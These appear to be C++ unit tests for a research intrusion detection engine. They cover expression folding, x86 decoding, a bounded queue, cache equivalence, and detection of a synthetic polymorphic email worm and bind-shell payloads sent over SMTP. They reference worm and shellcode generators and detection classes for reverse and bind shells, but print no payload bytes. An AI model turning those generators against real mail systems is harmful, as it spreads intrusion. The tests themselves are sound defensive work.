  // And(Or(And(init, ~0xff), 0x95), 0xff) -> 0x95.
  auto init = mk_init(RegFamily::kBx);
  auto merged = mk_bin(BinOp::kOr, mk_bin(BinOp::kAnd, init, mk_const(0xffffff00u)),
                       mk_const(0x95));
  auto read = mk_bin(BinOp::kAnd, merged, mk_const(0xff));
  std::uint32_t v;
  ASSERT_TRUE(is_const(read, &v));
  EXPECT_EQ(v, 0x95u);
}

TEST(Expr, AndChainMergesMasks) {
  auto x = mk_init(RegFamily::kAx);
  auto e = mk_bin(BinOp::kAnd, mk_bin(BinOp::kAnd, x, mk_const(0xff00)), mk_const(0x0ff0));
  ASSERT_EQ(e->kind, ExprKind::kBin);
  std::uint32_t v;
  ASSERT_TRUE(is_const(e->rhs, &v));
  EXPECT_EQ(v, 0x0f00u);
}

TEST(Expr, LoadsDifferByGeneration) {
  auto addr = mk_init(RegFamily::kSi);
  auto l0 = mk_load(addr, 8, 0);
  auto l1 = mk_load(addr, 8, 1);
  EXPECT_FALSE(struct_eq(l0, l1));
  EXPECT_TRUE(struct_eq(l0, mk_load(addr, 8, 0)));
}

TEST(Expr, LoadsDifferByWidth) {
  auto addr = mk_init(RegFamily::kSi);
  EXPECT_FALSE(struct_eq(mk_load(addr, 8, 0), mk_load(addr, 32, 0)));
}

TEST(Expr, HashConsistentWithEquality) {
  auto a1 = mk_bin(BinOp::kXor, mk_load(mk_init(RegFamily::kAx), 8, 0), mk_const(0x95));
  auto a2 = mk_bin(BinOp::kXor, mk_const(0x95), mk_load(mk_init(RegFamily::kAx), 8, 0));
  EXPECT_TRUE(struct_eq(a1, a2));
  EXPECT_EQ(expr_hash(a1), expr_hash(a2));
}

TEST(Expr, UnknownsAreDistinct) {
  EXPECT_FALSE(struct_eq(mk_unknown(0), mk_unknown(1)));
  EXPECT_TRUE(struct_eq(mk_unknown(3), mk_unknown(3)));
}

TEST(Expr, ToStringRenders) {
  auto e = mk_bin(BinOp::kXor, mk_load(mk_init(RegFamily::kAx), 8, 0), mk_const(0x95));
  EXPECT_EQ(to_string(e), "xor(load8@0(init(eax)), 0x95)");
}

TEST(Expr, ShiftByConstZeroIsIdentity) {
  auto x = mk_init(RegFamily::kAx);
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kShr, x, mk_const(32)), x));  // 32 & 31 == 0
}

TEST(Expr, FigureOneEquivalence) {
  // The heart of the reproduction: Figure 1(a) xors with 0x95 directly;
  // Figure 1(b) builds the key as 0x31 + 0x64 in a register. Both stored
  // values must normalize to the same expression.
  auto addr = mk_init(RegFamily::kAx);
  auto load = mk_load(addr, 8, 0);
  auto direct = mk_bin(BinOp::kXor, load, mk_const(0x95));
  auto built_key = mk_bin(BinOp::kAdd, mk_const(0x31), mk_const(0x64));
  auto indirect = mk_bin(BinOp::kXor, load, built_key);
  EXPECT_TRUE(struct_eq(direct, indirect));
}

}  // namespace
}  // namespace senids::ir

namespace senids::ir {
namespace {

/// Property sweep: constant-only expression trees must fold to exactly
/// the value a direct evaluator computes — the soundness core of the
/// Figure-1(b) key-reconstruction claim.
class ConstFoldProperty : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(ConstFoldProperty, RandomConstTreesFoldExactly) {
  util::Prng prng(GetParam());
  // Build a random tree bottom-up over constants, computing the expected
  // value alongside with uint32 arithmetic.
  struct Node {
    ExprPtr expr;
    std::uint32_t value;
  };
  std::vector<Node> pool;
  for (int i = 0; i < 4; ++i) {
    const std::uint32_t v = static_cast<std::uint32_t>(prng.next());
    pool.push_back({mk_const(v), v});
  }
  auto eval = [](BinOp op, std::uint32_t a, std::uint32_t b) -> std::uint32_t {
    switch (op) {
      case BinOp::kAdd: return a + b;
      case BinOp::kSub: return a - b;
      case BinOp::kXor: return a ^ b;
      case BinOp::kOr: return a | b;
      case BinOp::kAnd: return a & b;
      case BinOp::kMul: return a * b;
      case BinOp::kShl: return (b & 31) ? a << (b & 31) : a;
      case BinOp::kShr: return (b & 31) ? a >> (b & 31) : a;
      case BinOp::kSar:
        return (b & 31) ? static_cast<std::uint32_t>(static_cast<std::int32_t>(a) >>
                                                     (b & 31))
                        : a;
      case BinOp::kRol: {
        unsigned s = b & 31;
        return s ? (a << s) | (a >> (32 - s)) : a;
      }
      case BinOp::kRor: {
        unsigned s = b & 31;
        return s ? (a >> s) | (a << (32 - s)) : a;
      }
    }
    return 0;
  };
  static constexpr BinOp kOps[] = {BinOp::kAdd, BinOp::kSub, BinOp::kXor, BinOp::kOr,
                                   BinOp::kAnd, BinOp::kMul, BinOp::kShl, BinOp::kShr,
                                   BinOp::kSar, BinOp::kRol, BinOp::kRor};
  for (int step = 0; step < 24; ++step) {
    const BinOp op = kOps[prng.below(std::size(kOps))];
    const Node& a = pool[prng.below(pool.size())];
    const Node& b = pool[prng.below(pool.size())];
    Node n{mk_bin(op, a.expr, b.expr), eval(op, a.value, b.value)};
    std::uint32_t folded;
    ASSERT_TRUE(is_const(n.expr, &folded)) << binop_name(op);
    ASSERT_EQ(folded, n.value) << binop_name(op);
    pool.push_back(std::move(n));
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, ConstFoldProperty,
                         ::testing::Range<std::uint64_t>(0, 32));

/// Simplification must be semantics-preserving for mixed trees too: a
/// tree over one symbolic leaf, evaluated at a concrete value via
/// substitution-by-construction, equals the direct computation.
class SimplifyProperty : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(SimplifyProperty, MixedTreesPreserveSemantics) {
  util::Prng prng(100 + GetParam());
  const std::uint32_t x_value = static_cast<std::uint32_t>(prng.next());

  // Build the same random tree twice: once over init(eax) (symbolic) and
  // once over the constant x_value. If the symbolic tree happens to fold
  // to a constant, it must equal the concrete result.
  struct Pair {
    ExprPtr sym;
    ExprPtr conc;
  };
  std::vector<Pair> pool;
  pool.push_back({mk_init(arch::RegFamily::kAx), mk_const(x_value)});
  for (int i = 0; i < 3; ++i) {
    const std::uint32_t v = static_cast<std::uint32_t>(prng.next());
    pool.push_back({mk_const(v), mk_const(v)});
  }
  static constexpr BinOp kOps[] = {BinOp::kAdd, BinOp::kSub, BinOp::kXor, BinOp::kOr,
                                   BinOp::kAnd, BinOp::kMul};
  for (int step = 0; step < 20; ++step) {
    const BinOp op = kOps[prng.below(std::size(kOps))];
    const Pair& a = pool[prng.below(pool.size())];
    const Pair& b = pool[prng.below(pool.size())];
    Pair n{mk_bin(op, a.sym, b.sym), mk_bin(op, a.conc, b.conc)};
    std::uint32_t sym_const, conc_const;
    ASSERT_TRUE(is_const(n.conc, &conc_const));
    if (is_const(n.sym, &sym_const)) {
      ASSERT_EQ(sym_const, conc_const)
          << binop_name(op) << " over " << to_string(a.sym) << " and "
          << to_string(b.sym);
    }
    pool.push_back(std::move(n));
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, SimplifyProperty,
                         ::testing::Range<std::uint64_t>(0, 32));

}  // namespace
}  // namespace senids::ir
