// Email-worm path: base64 decoding, MIME attachment extraction, and
// end-to-end detection of a polymorphic worm attachment over SMTP.
#include <gtest/gtest.h>

#include "core/senids.hpp"
#include "extract/base64.hpp"
#include "gen/mailworm.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"

namespace senids {
namespace {

using util::Bytes;

// ----------------------------------------------------------------- base64

TEST(Base64, DecodeKnownVectors) {
  EXPECT_EQ(extract::base64_decode("aGVsbG8=").value(), util::to_bytes("hello"));
  EXPECT_EQ(extract::base64_decode("aGVsbG8h").value(), util::to_bytes("hello!"));
  EXPECT_EQ(extract::base64_decode("aA==").value(), util::to_bytes("h"));
  EXPECT_EQ(extract::base64_decode("").value(), Bytes{});
}

TEST(Base64, DecodeIgnoresLineBreaks) {
  EXPECT_EQ(extract::base64_decode("aGVs\r\nbG8=").value(), util::to_bytes("hello"));
}

TEST(Base64, DecodeRejectsGarbage) {
  EXPECT_FALSE(extract::base64_decode("a*b=").has_value());
  EXPECT_FALSE(extract::base64_decode("abc").has_value());      // truncated quantum
  EXPECT_FALSE(extract::base64_decode("aA==bb").has_value());   // data after padding
}

TEST(Base64, RoundTripThroughGenerator) {
  util::Prng prng(1);
  auto worm = gen::make_email_worm(prng);
  auto region = extract::find_base64_region(worm.smtp_payload);
  ASSERT_TRUE(region.has_value());
  EXPECT_EQ(region->decoded, worm.attachment);
}

TEST(Base64, FindRegionIgnoresShortRuns) {
  // Ordinary prose: words are base64-alphabet but too short.
  std::string text = "the quick brown fox jumps over the lazy dog again and again";
  EXPECT_FALSE(extract::find_base64_region(util::as_bytes(text)).has_value());
}

TEST(Base64, FindRegionTrimsTrailingRemainder) {
  // A valid region followed directly by extra alphabet chars that break
  // the 4-char quantum: the finder must still recover the prefix.
  util::Prng prng(2);
  auto worm = gen::make_email_worm(prng);
  Bytes payload = worm.smtp_payload;
  // Find region and verify decodability was not destroyed by SMTP tail.
  auto region = extract::find_base64_region(payload);
  ASSERT_TRUE(region.has_value());
  EXPECT_GE(region->decoded.size(), 64u);
}

// ------------------------------------------------------------- extraction

TEST(MailWorm, ExtractorEmitsBase64Frame) {
  util::Prng prng(3);
  auto worm = gen::make_email_worm(prng);
  extract::BinaryExtractor extractor;
  auto frames = extractor.extract(worm.smtp_payload);
  bool found = false;
  for (const auto& f : frames) {
    if (f.reason == extract::FrameReason::kBase64Decoded) {
      found = true;
      EXPECT_EQ(f.data, worm.attachment);
    }
  }
  EXPECT_TRUE(found);
}

// ------------------------------------------------------------ end to end

TEST(MailWorm, DetectedOverSmtp) {
  gen::TraceBuilder tb(71);
  auto worm = gen::make_email_worm(tb.prng());
  const net::Endpoint sender{net::Ipv4Addr::from_octets(203, 0, 113, 50), 3456};
  const net::Endpoint mx{net::Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  tb.add_tcp_flow(sender, mx, worm.smtp_payload);

  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  core::NidsEngine nids(options);
  core::Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(semantic::ThreatClass::kDecryptionLoop));
  bool base64_frame = false;
  for (const auto& a : report.alerts) {
    if (a.frame_reason == extract::FrameReason::kBase64Decoded) base64_frame = true;
  }
  EXPECT_TRUE(base64_frame);
}

TEST(MailWorm, DeepAnalysisSeesShellBehindAttachment) {
  gen::TraceBuilder tb(72);
  auto worm = gen::make_email_worm(tb.prng());
  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  options.enable_emulation = true;
  core::NidsEngine nids(options);
  const net::Endpoint sender{net::Ipv4Addr::from_octets(203, 0, 113, 50), 3456};
  const net::Endpoint mx{net::Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  tb.add_tcp_flow(sender, mx, worm.smtp_payload);
  core::Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(semantic::ThreatClass::kShellSpawn));
}

TEST(MailWorm, NonPolymorphicAttachmentAlsoDetected) {
  util::Prng prng(73);
  gen::MailWormOptions opts;
  opts.polymorphic = false;  // plain shellcode attachment
  // Use the (larger) bind-shell payload so the attachment clears the
  // base64 frame-size threshold.
  auto binder = gen::make_shell_spawn_corpus()[8].code;
  auto worm = gen::make_email_worm(prng, binder, opts);
  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  core::NidsEngine nids(options);
  core::Alert meta;
  auto alerts = nids.analyze_payload(worm.smtp_payload, meta);
  bool shell = false;
  for (const auto& a : alerts) {
    if (a.threat == semantic::ThreatClass::kShellSpawn) shell = true;
  }
  EXPECT_TRUE(shell);
}

TEST(MailWorm, BenignEmailStaysClean) {
  util::Prng prng(74);
  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  options.enable_emulation = true;
  core::NidsEngine nids(options);
  for (int i = 0; i < 10; ++i) {
    auto mail = gen::make_benign_email(prng);
    core::Alert meta;
    EXPECT_TRUE(nids.analyze_payload(mail, meta).empty()) << i;
  }
}

TEST(MailWorm, SamplesVaryAcrossSeeds) {
  util::Prng p1(1), p2(2);
  EXPECT_NE(gen::make_email_worm(p1).attachment, gen::make_email_worm(p2).attachment);
}

}  // namespace
}  // namespace senids
