#include <gtest/gtest.h>

#include <atomic>
#include <thread>

#include "obs/metrics.hpp"
#include "util/queue.hpp"

namespace senids::util {
namespace {

TEST(BoundedQueue, FifoOrder) {
  BoundedQueue<int> q(8);
  for (int i = 0; i < 5; ++i) ASSERT_TRUE(q.push(i));
  for (int i = 0; i < 5; ++i) EXPECT_EQ(q.pop().value(), i);
}

TEST(BoundedQueue, TryPushFailsWhenFull) {
  BoundedQueue<int> q(2);
  EXPECT_TRUE(q.try_push(1));
  EXPECT_TRUE(q.try_push(2));
  EXPECT_FALSE(q.try_push(3));
  EXPECT_EQ(q.size(), 2u);
  q.pop();
  EXPECT_TRUE(q.try_push(3));
}

TEST(BoundedQueue, TryPopEmptyReturnsNullopt) {
  BoundedQueue<int> q(2);
  EXPECT_FALSE(q.try_pop().has_value());
  q.push(7);
  EXPECT_EQ(q.try_pop().value(), 7);
}

TEST(BoundedQueue, CloseUnblocksConsumer) {
  BoundedQueue<int> q(2);
  std::thread consumer([&q] {
    auto v = q.pop();
    EXPECT_FALSE(v.has_value());
  });
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  q.close();
  consumer.join();
}

TEST(BoundedQueue, CloseDrainsRemainingItems) {
  BoundedQueue<int> q(4);
  q.push(1);
  q.push(2);
  q.close();
  EXPECT_FALSE(q.push(3));
  EXPECT_EQ(q.pop().value(), 1);
  EXPECT_EQ(q.pop().value(), 2);
  EXPECT_FALSE(q.pop().has_value());
}

TEST(BoundedQueue, BlockingPushWaitsForSpace) {
  BoundedQueue<int> q(1);
  ASSERT_TRUE(q.push(1));
  std::atomic<bool> pushed{false};
  std::thread producer([&] {
    q.push(2);
    pushed = true;
  });
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  EXPECT_FALSE(pushed.load());
  EXPECT_EQ(q.pop().value(), 1);
  producer.join();
  EXPECT_TRUE(pushed.load());
  EXPECT_EQ(q.pop().value(), 2);
}

TEST(BoundedQueue, ManyProducersManyConsumers) {
  BoundedQueue<int> q(16);
  constexpr int kPerProducer = 500;
  constexpr int kProducers = 4;
  constexpr int kConsumers = 3;
  std::atomic<long> sum{0};
  std::atomic<int> consumed{0};

  std::vector<std::thread> threads;
  for (int p = 0; p < kProducers; ++p) {
    threads.emplace_back([&q, p] {
      for (int i = 0; i < kPerProducer; ++i) q.push(p * kPerProducer + i);
    });
  }
  for (int c = 0; c < kConsumers; ++c) {
    threads.emplace_back([&] {
      while (auto v = q.pop()) {
        sum += *v;
        ++consumed;
      }
    });
  }
  for (int p = 0; p < kProducers; ++p) threads[static_cast<std::size_t>(p)].join();
  q.close();
  for (std::size_t c = kProducers; c < threads.size(); ++c) threads[c].join();

  const int total = kProducers * kPerProducer;
  EXPECT_EQ(consumed.load(), total);
  EXPECT_EQ(sum.load(), static_cast<long>(total) * (total - 1) / 2);
}

TEST(BoundedQueue, ZeroCapacityClampsToOne) {
  BoundedQueue<int> q(0);
  EXPECT_TRUE(q.try_push(1));
  EXPECT_FALSE(q.try_push(2));
}

TEST(BoundedQueue, MoveOnlyTypes) {
  BoundedQueue<std::unique_ptr<int>> q(2);
  q.push(std::make_unique<int>(42));
  auto v = q.pop();
  ASSERT_TRUE(v.has_value());
  EXPECT_EQ(**v, 42);
}

TEST(BoundedQueue, WeightBudgetLimitsQueuedBytes) {
  BoundedQueue<int> q(8, /*max_weight=*/100);
  ASSERT_TRUE(q.push(1, 60));
  EXPECT_FALSE(q.try_push(2, 60));  // 120 would exceed the budget
  EXPECT_TRUE(q.try_push(3, 40));   // exactly at the budget
  EXPECT_EQ(q.weight(), 100u);
  EXPECT_EQ(q.pop().value(), 1);
  EXPECT_EQ(q.weight(), 40u);
  EXPECT_TRUE(q.try_push(4, 60));
}

TEST(BoundedQueue, DepthPeakGaugeRatchetsToHighWatermark) {
  obs::set_metrics_enabled(true);
  obs::Gauge depth;
  obs::Gauge depth_peak;
  QueueMetrics metrics;
  metrics.depth = &depth;
  metrics.depth_peak = &depth_peak;
  BoundedQueue<int> q(8);
  q.set_metrics(&metrics);
  for (int i = 0; i < 5; ++i) ASSERT_TRUE(q.push(i));
  EXPECT_EQ(depth.value(), 5);
  EXPECT_EQ(depth_peak.value(), 5);
  for (int i = 0; i < 4; ++i) (void)q.pop();
  EXPECT_EQ(depth.value(), 1);
  EXPECT_EQ(depth_peak.value(), 5) << "the peak must survive the drain";
  for (int i = 0; i < 6; ++i) ASSERT_TRUE(q.push(i));
  EXPECT_EQ(depth_peak.value(), 7) << "a new high watermark ratchets up";
}

TEST(BoundedQueue, OversizedItemAdmittedWhenEmpty) {
  // A single unit bigger than the whole budget must not deadlock: an
  // empty queue always admits one item.
  BoundedQueue<int> q(4, /*max_weight=*/10);
  EXPECT_TRUE(q.try_push(1, 1000));
  EXPECT_FALSE(q.try_push(2, 1));  // budget exhausted by the big item
  EXPECT_EQ(q.pop().value(), 1);
  EXPECT_EQ(q.weight(), 0u);
  EXPECT_TRUE(q.try_push(2, 1));
}

TEST(BoundedQueue, WeightBudgetBlockingPushWaitsForPop) {
  BoundedQueue<int> q(8, /*max_weight=*/10);
  ASSERT_TRUE(q.push(1, 10));
  std::atomic<bool> pushed{false};
  std::thread producer([&] {
    q.push(2, 5);
    pushed = true;
  });
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  EXPECT_FALSE(pushed.load());
  EXPECT_EQ(q.pop().value(), 1);
  producer.join();
  EXPECT_TRUE(pushed.load());
  EXPECT_EQ(q.pop().value(), 2);
}

TEST(BoundedQueue, UnweightedItemsIgnoreBudget) {
  BoundedQueue<int> q(2, /*max_weight=*/1);
  EXPECT_TRUE(q.try_push(1));  // weight 0 items ride on count alone
  EXPECT_TRUE(q.try_push(2));
  EXPECT_FALSE(q.try_push(3));  // count cap still applies
}

TEST(BoundedQueue, PopBatchTakesOldestUpToLimit) {
  BoundedQueue<int> q(8);
  for (int i = 0; i < 5; ++i) ASSERT_TRUE(q.push(i));
  std::vector<int> batch;
  EXPECT_EQ(q.pop_batch(batch, 3), 3u);
  EXPECT_EQ(batch, (std::vector<int>{0, 1, 2}));
  EXPECT_EQ(q.pop_batch(batch, 3), 2u);  // partial batch: whatever is left
  EXPECT_EQ(batch, (std::vector<int>{3, 4}));
}

TEST(BoundedQueue, PopBatchReleasesWeight) {
  BoundedQueue<int> q(8, /*max_weight=*/100);
  ASSERT_TRUE(q.push(1, 60));
  ASSERT_TRUE(q.push(2, 40));
  EXPECT_FALSE(q.try_push(3, 10));
  std::vector<int> batch;
  EXPECT_EQ(q.pop_batch(batch, 8), 2u);
  EXPECT_EQ(q.weight(), 0u);
  EXPECT_TRUE(q.try_push(3, 100));
}

TEST(BoundedQueue, PopBatchClosedEmptyReturnsZero) {
  BoundedQueue<int> q(4);
  q.push(1);
  q.close();
  std::vector<int> batch;
  EXPECT_EQ(q.pop_batch(batch, 4), 1u);  // close() still drains the backlog
  EXPECT_EQ(q.pop_batch(batch, 4), 0u);
  EXPECT_TRUE(batch.empty());
}

TEST(BoundedQueue, PopBatchZeroMaxClampsToOne) {
  BoundedQueue<int> q(4);
  q.push(1);
  q.push(2);
  std::vector<int> batch;
  EXPECT_EQ(q.pop_batch(batch, 0), 1u);
  EXPECT_EQ(batch, (std::vector<int>{1}));
}

TEST(BoundedQueue, PopBatchUnblocksMultipleProducers) {
  // A multi-item batch must wake every producer blocked on the count cap,
  // not just one — the whole point of batching is that several slots open
  // at once.
  BoundedQueue<int> q(2);
  ASSERT_TRUE(q.push(1));
  ASSERT_TRUE(q.push(2));
  std::atomic<int> pushed{0};
  std::thread p1([&] {
    q.push(3);
    ++pushed;
  });
  std::thread p2([&] {
    q.push(4);
    ++pushed;
  });
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  EXPECT_EQ(pushed.load(), 0);
  std::vector<int> batch;
  EXPECT_EQ(q.pop_batch(batch, 2), 2u);
  p1.join();
  p2.join();
  EXPECT_EQ(pushed.load(), 2);
  EXPECT_EQ(q.size(), 2u);
}

TEST(BoundedQueue, PopBatchManyProducersBatchedConsumers) {
  BoundedQueue<int> q(16);
  constexpr int kPerProducer = 500;
  constexpr int kProducers = 4;
  constexpr int kConsumers = 3;
  std::atomic<long> sum{0};
  std::atomic<int> consumed{0};

  std::vector<std::thread> threads;
  for (int p = 0; p < kProducers; ++p) {
    threads.emplace_back([&q, p] {
      for (int i = 0; i < kPerProducer; ++i) q.push(p * kPerProducer + i);
    });
  }
  for (int c = 0; c < kConsumers; ++c) {
    threads.emplace_back([&] {
      std::vector<int> batch;
      while (q.pop_batch(batch, 8) > 0) {
        for (int v : batch) {
          sum += v;
          ++consumed;
        }
      }
    });
  }
  for (int p = 0; p < kProducers; ++p) threads[static_cast<std::size_t>(p)].join();
  q.close();
  for (std::size_t c = kProducers; c < threads.size(); ++c) threads[c].join();

  const int total = kProducers * kPerProducer;
  EXPECT_EQ(consumed.load(), total);
  EXPECT_EQ(sum.load(), static_cast<long>(total) * (total - 1) / 2);
}

}  // namespace
}  // namespace senids::util
