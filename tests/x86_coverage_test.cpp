// Systematic decode-coverage sweeps: invariants that must hold for every
// opcode byte and every ModRM/SIB shape, regardless of operands.
#include <gtest/gtest.h>

#include "util/prng.hpp"
#include "arch/decoder.hpp"
#include "arch/defuse.hpp"
#include "arch/format.hpp"

namespace senids::arch {
namespace {

using util::Bytes;

/// One-byte-opcode sweep: for every first byte, decoding any suffix must
/// (a) never crash, (b) yield consistent length/validity, (c) produce a
/// formatter string and def/use summary without UB.
class OpcodeSweep : public ::testing::TestWithParam<int> {};

TEST_P(OpcodeSweep, InvariantsHold) {
  const auto opcode = static_cast<std::uint8_t>(GetParam());
  util::Prng prng(GetParam());
  for (int trial = 0; trial < 64; ++trial) {
    Bytes buf;
    buf.push_back(opcode);
    Bytes tail = prng.bytes(14);
    buf.insert(buf.end(), tail.begin(), tail.end());

    const Instruction insn = decode(buf, 0);
    if (insn.valid()) {
      ASSERT_GE(insn.length, 1);
      ASSERT_LE(static_cast<std::size_t>(insn.length), buf.size());
      // Formatter and def/use must be callable on every decoded form.
      EXPECT_FALSE(format(insn).empty());
      (void)def_use(insn);
      // Operand invariants: no kNone gaps before a present operand.
      bool seen_none = false;
      for (const Operand& op : insn.ops) {
        if (op.kind == OperandKind::kNone) {
          seen_none = true;
        } else {
          EXPECT_FALSE(seen_none) << "operand after gap, opcode " << int(opcode);
        }
      }
    } else {
      EXPECT_LE(insn.length, 1);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(AllOpcodes, OpcodeSweep, ::testing::Range(0, 256));

/// Truncation sweep: every valid instruction must become invalid (not
/// crash, not mis-decode into a longer form) when its buffer is cut at
/// any interior byte.
class TruncationSweep : public ::testing::TestWithParam<int> {};

TEST_P(TruncationSweep, PrefixesOfValidInstructionsAreSafe) {
  const auto opcode = static_cast<std::uint8_t>(GetParam());
  util::Prng prng(1000 + GetParam());
  for (int trial = 0; trial < 16; ++trial) {
    Bytes buf;
    buf.push_back(opcode);
    Bytes tail = prng.bytes(14);
    buf.insert(buf.end(), tail.begin(), tail.end());
    const Instruction full = decode(buf, 0);
    if (!full.valid()) continue;
    for (std::size_t cut = 1; cut < full.length; ++cut) {
      Bytes shorter(buf.begin(), buf.begin() + static_cast<std::ptrdiff_t>(cut));
      const Instruction t = decode(shorter, 0);
      // Either invalid, or a genuinely shorter instruction (possible when
      // the cut removes only trailing bytes another encoding ignores) —
      // never a claim of bytes beyond the buffer.
      if (t.valid()) {
        EXPECT_LE(static_cast<std::size_t>(t.length), shorter.size());
      }
    }
  }
}

INSTANTIATE_TEST_SUITE_P(AllOpcodes, TruncationSweep, ::testing::Range(0, 256));

/// Self-consistency: decoding the same bytes twice is deterministic, and
/// linear_sweep offsets tile the buffer without gaps or overlaps.
TEST(DecoderConsistency, LinearSweepTilesBuffer) {
  util::Prng prng(77);
  for (int trial = 0; trial < 50; ++trial) {
    Bytes buf = prng.bytes(256);
    auto insns = linear_sweep(buf);
    std::size_t expect = 0;
    for (const auto& insn : insns) {
      EXPECT_EQ(insn.offset, expect);
      expect = insn.end_offset();
    }
    EXPECT_LE(expect, buf.size());
  }
}

}  // namespace
}  // namespace senids::arch

namespace senids::arch {
namespace {

/// Two-byte (0F xx) opcode sweep with the same invariants.
class TwoByteOpcodeSweep : public ::testing::TestWithParam<int> {};

TEST_P(TwoByteOpcodeSweep, InvariantsHold) {
  const auto second = static_cast<std::uint8_t>(GetParam());
  util::Prng prng(5000 + GetParam());
  for (int trial = 0; trial < 32; ++trial) {
    Bytes buf;
    buf.push_back(0x0F);
    buf.push_back(second);
    Bytes tail = prng.bytes(13);
    buf.insert(buf.end(), tail.begin(), tail.end());
    const Instruction insn = decode(buf, 0);
    if (insn.valid()) {
      ASSERT_GE(insn.length, 2);
      ASSERT_LE(static_cast<std::size_t>(insn.length), buf.size());
      EXPECT_FALSE(format(insn).empty());
      (void)def_use(insn);
    } else {
      EXPECT_LE(insn.length, 1);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(All, TwoByteOpcodeSweep, ::testing::Range(0, 256));

/// Prefix pile-ups: every prefix combination before a simple opcode must
/// decode consistently or be rejected, never mis-size.
class PrefixSweep : public ::testing::TestWithParam<int> {};

TEST_P(PrefixSweep, PrefixCombinationsAreSafe) {
  static constexpr std::uint8_t kPrefixes[] = {0x66, 0xF0, 0xF2, 0xF3, 0x2E, 0x64};
  const unsigned mask = static_cast<unsigned>(GetParam());
  Bytes buf;
  for (unsigned i = 0; i < std::size(kPrefixes); ++i) {
    if (mask & (1u << i)) buf.push_back(kPrefixes[i]);
  }
  buf.push_back(0x89);  // mov rm32, r32
  buf.push_back(0xD8);  // mov eax, ebx
  const Instruction insn = decode(buf, 0);
  ASSERT_TRUE(insn.valid());
  EXPECT_EQ(static_cast<std::size_t>(insn.length), buf.size());
  EXPECT_EQ(insn.mnemonic, Mnemonic::kMov);
}

INSTANTIATE_TEST_SUITE_P(All, PrefixSweep, ::testing::Range(0, 64));

}  // namespace
}  // namespace senids::arch
