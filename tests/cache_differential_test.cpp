// Differential harness for the verdict cache: every generator corpus is
// run through a cache-off engine and a cache-on engine over the *same*
// capture, and the reports must be byte-identical — same sorted alert
// list (every field), same detections, same unit counts. This is the
// cache's correctness contract: memoizing stages (b)-(e) must be
// invisible in every output the pipeline produces.
//
// The second half proves the replay path itself: one capture fed twice
// through a single cache-on engine must produce identical reports, with
// the second pass served (almost) entirely from the cache — hit-path
// replay equals miss-path analysis.
#include <gtest/gtest.h>

#include <vector>

#include "arch/arch.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/mailworm.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/shellcode64.hpp"
#include "gen/traffic.hpp"

namespace senids::core {
namespace {

using net::Endpoint;
using net::Ipv4Addr;
using semantic::ThreatClass;

const Ipv4Addr kServer = Ipv4Addr::from_octets(10, 0, 0, 20);
const Endpoint kClient{Ipv4Addr::from_octets(198, 51, 100, 10), 45000};

constexpr ThreatClass kAllThreats[] = {
    ThreatClass::kDecryptionLoop, ThreatClass::kShellSpawn,
    ThreatClass::kPortBindShell,  ThreatClass::kReverseShell,
    ThreatClass::kCodeRedII,      ThreatClass::kCustom,
};

Endpoint attacker(std::size_t i) {
  return Endpoint{Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(10 + i)),
                  static_cast<std::uint16_t>(30000 + i)};
}

NidsEngine make_engine(std::size_t cache_bytes, std::size_t threads = 1,
                       const arch::Arch* arch = nullptr) {
  NidsOptions options;
  options.arch = arch;
  options.classifier.analyze_everything = true;
  options.threads = threads;
  options.verdict_cache_bytes = cache_bytes;
  return NidsEngine(options);
}

constexpr std::size_t kCacheBytes = 8u << 20;

void expect_alerts_equal(const std::vector<Alert>& a, const std::vector<Alert>& b) {
  ASSERT_EQ(a.size(), b.size());
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].ts_sec, b[i].ts_sec) << "alert " << i;
    EXPECT_EQ(a[i].src.value, b[i].src.value) << "alert " << i;
    EXPECT_EQ(a[i].dst.value, b[i].dst.value) << "alert " << i;
    EXPECT_EQ(a[i].src_port, b[i].src_port) << "alert " << i;
    EXPECT_EQ(a[i].dst_port, b[i].dst_port) << "alert " << i;
    EXPECT_EQ(a[i].threat, b[i].threat) << "alert " << i;
    EXPECT_EQ(a[i].template_name, b[i].template_name) << "alert " << i;
    EXPECT_EQ(a[i].frame_reason, b[i].frame_reason) << "alert " << i;
    EXPECT_EQ(a[i].frame_offset, b[i].frame_offset) << "alert " << i;
  }
}

void expect_cache_invariant(const NidsStats& s) {
  EXPECT_EQ(s.cache_hits + s.cache_misses + s.cache_bypass, s.units_analyzed);
}

/// The harness: run `capture` through cache-off and cache-on engines and
/// require byte-identical reports.
void expect_cache_transparent(const pcap::Capture& capture, std::size_t threads = 1,
                              const arch::Arch* arch = nullptr) {
  NidsEngine off = make_engine(0, threads, arch);
  NidsEngine on = make_engine(kCacheBytes, threads, arch);
  const Report r_off = off.process_capture(capture);
  const Report r_on = on.process_capture(capture);

  expect_alerts_equal(r_off.alerts, r_on.alerts);
  for (ThreatClass t : kAllThreats) {
    EXPECT_EQ(r_off.detected(t), r_on.detected(t))
        << semantic::threat_class_name(t);
  }
  EXPECT_EQ(r_off.stats.units_analyzed, r_on.stats.units_analyzed);
  EXPECT_EQ(r_off.stats.suspicious_packets, r_on.stats.suspicious_packets);
  // The cache-off engine must not have touched the cache counters at all.
  EXPECT_EQ(r_off.stats.cache_hits + r_off.stats.cache_misses +
                r_off.stats.cache_bypass,
            0u);
  expect_cache_invariant(r_on.stats);
}

